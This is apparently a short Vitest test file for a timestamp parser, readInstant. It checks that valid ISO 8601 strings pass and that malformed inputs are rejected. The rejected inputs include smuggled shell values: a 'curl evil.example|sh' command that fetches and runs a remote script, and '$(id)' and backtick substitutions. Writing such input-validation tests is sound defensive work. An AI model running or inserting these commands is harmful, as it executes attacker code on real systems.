import { expect, test } from "vitest";

import { readInstant } from "./read-search.ts";

test.each(["2026-11-27T14:03:00Z", "2026-11-27T14:03:00.123Z", "2026-11-27T14:03:00+01:00"])(
  "%s is an instant",
  (text) => {
    expect(readInstant(text)).toBe(text);
  },
);

test.each([
  "1 Jan 2026 (;curl evil.example|sh)",
  "2026-11-27T14:03:00Z (`id`)",
  "2026-11-27T99:03:00Z",
  "2026-11-27",
  "$(id)",
  "",
  5,
  ["2026-11-27T14:03:00Z"],
])("%j is none", (text) => {
  expect(readInstant(text)).toBeUndefined();
});
